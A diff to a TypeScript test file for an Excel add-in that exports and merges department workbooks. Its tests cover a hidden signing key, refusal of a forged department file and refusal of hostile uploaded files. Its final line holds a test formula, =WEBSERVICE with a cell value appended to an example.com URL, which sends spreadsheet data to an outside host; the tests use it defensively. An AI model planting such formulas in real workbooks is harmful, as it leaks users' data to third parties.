@@ -4,12 +4,13 @@
  * the planned cells of the task table and appends every conflict to 合并冲突, in few syncs.
  */
 import ExcelJS from "exceljs";
-import { CHANGE_LOG_SHEET, columnIndex, ColumnKey, dayFromIso, letterOf, MERGE_LOG_HEADERS, MERGE_LOG_SHEET, parseTable, serialFromDay, SHEETS, TASK_COLUMNS } from "../../src/core";
+import { CHANGE_LOG_SHEET, DEPARTMENT_INFO_SHEET, EXPORT_KEY_SHEET, columnIndex, ColumnKey, dayFromIso, letterOf, MERGE_LOG_HEADERS, MERGE_LOG_SHEET, parseTable, serialFromDay, SHEETS, TASK_COLUMNS } from "../../src/core";
 import { createExcelActions } from "../../src/taskpane/excel/actions";
 import { startChangeLog } from "../../src/taskpane/excel/changeLog";
 import { detectFeatures } from "../../src/taskpane/excel/requirements";
 import { readDepartmentWorkbook } from "../../src/xlsx/readWorkbook";
 import { FakeOptions, FakeWorkbook, SheetModel } from "../doubles/fakeExcel";
+import { HOSTILE_DEPARTMENT_FILES } from "../doubles/hostileWorkbooks";
 import { seedText } from "../doubles/seedVariants";
 import { soilEvaluator } from "../doubles/soilEvaluator";
 
@@ -53,8 +54,11 @@ test("export opens the department's rows as a new workbook (ExcelApi 1.8)", asyn
   const syncs = book.syncCount;
   const result = await actions.exportDepartmentFile("市环保局", EXPORTED);
   expect(result).toEqual({ kind: "opened", department: "市环境保护局", rows: 101 });
-  // Reads only: the table check, header + row count, one block of 195 rows.
-  expect(book.syncCount - syncs).toBe(3);
+  // The table check (with the sheet names), header + row count, one block of 195 rows, the signing key
+  // (created: the populated workbook had none).
+  expect(book.syncCount - syncs).toBe(4);
+  // The key that signs exports is in a very hidden sheet of the workbook.
+  expect(book.sheet(EXPORT_KEY_SHEET)?.visibility).toBe("VeryHidden");
   expect(opened).toHaveLength(1);
   const file = await readDepartmentWorkbook(Buffer.from(opened[0], "base64"));
   expect(file.department).toBe("市环境保护局");
@@ -107,9 +111,9 @@ test("merge writes the department's cells, keeps the office's in a conflict, log
 
   expect(outcome.plan.report).toMatchObject({ rowsInFile: 102, rowsMatched: 101, applied: 3, conflicts: 1, rejected: 1, ignored: 1 });
   expect(outcome.lines[0]).toContain("更新 3 个单元格");
-  // Table check + 合并冲突 lookup, header + row count, one block of 195 rows, the writes (calculation
-  // suspended), the recalculation, the new 合并冲突's font and page layout: 6 syncs.
-  expect(book.syncCount - syncs).toBe(6);
+  // Table check + 合并冲突 lookup, header + row count, one block of 195 rows, the signing key, the writes
+  // (calculation suspended), the recalculation, the new 合并冲突's font and page layout: 7 syncs.
+  expect(book.syncCount - syncs).toBe(7);
   expect(book.calculations.slice(calculations)).toEqual(["Full"]);
   const r11 = rowOf(tasks, "1.1");
   const r13 = rowOf(tasks, "1.3");
@@ -173,6 +177,35 @@ test.each(["1.17", "1.9"])("merge on a protected 任务清单 (department column
   expect(problems).toEqual([]);
   await log.stop();
 });
+
+test("a file whose 导出信息 was edited (another department named) is refused, nothing written; a file named after another department is merged with a warning", async () => {
+  const { book, actions, opened } = await populated();
+  await actions.exportDepartmentFile("市环境保护局", EXPORTED);
+  const exported = new Uint8Array(Buffer.from(opened[0], "base64"));
+  const forged = new ExcelJS.Workbook();
+  await forged.xlsx.load(exported as unknown as ArrayBuffer);
+  forged.getWorksheet(DEPARTMENT_INFO_SHEET)!.getCell(2, 2).value = "市农牧局";
+  const forgedBytes = new Uint8Array(await forged.xlsx.writeBuffer());
+  const calls = book.calls.length;
+  await expect(actions.mergeDepartmentFile(forgedBytes, "SOIL-市农牧局.xlsx")).rejects.toThrow("导出信息与主表的记录不符");
+  expect(book.calls.slice(calls).filter((c) => c.member === "values")).toEqual([]);
+  const returned = await departmentEdits(exported, (row) => {
+    row("1.1").getCell(col("notes") + 1).value = "已部署";
+  });
+  const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
+  expect(outcome.lines[0]).toContain("文件名“SOIL-市农牧局.xlsx”写的是市农牧局，文件中的责任单位却是市环境保护局");
+  expect(outcome.plan.updates).toHaveLength(1);
+});
+
+test.each(HOSTILE_DEPARTMENT_FILES.map((c) => [c.name, c] as const))("the pane refuses %s: a Chinese message, nothing written", async (_name, hostile) => {
+  const { book, actions, opened } = await populated();
+  await actions.exportDepartmentFile("市环境保护局", EXPORTED);
+  const bytes = await hostile.bytes(new Uint8Array(Buffer.from(opened[0], "base64")));
+  const calls = book.calls.length;
+  await expect(actions.mergeDepartmentFile(bytes, hostile.file)).rejects.toThrow(hostile.refused);
+  expect(book.calls.slice(calls).filter((c) => c.member === "values")).toEqual([]);
+  expect(book.sheet(MERGE_LOG_SHEET)).toBeUndefined();
+}, 60_000);
 
 describe("what the merge writes stays what the department typed (issue #14)", () => {
   const WEBSERVICE = '=WEBSERVICE("http://example.com/?q="&A1)';
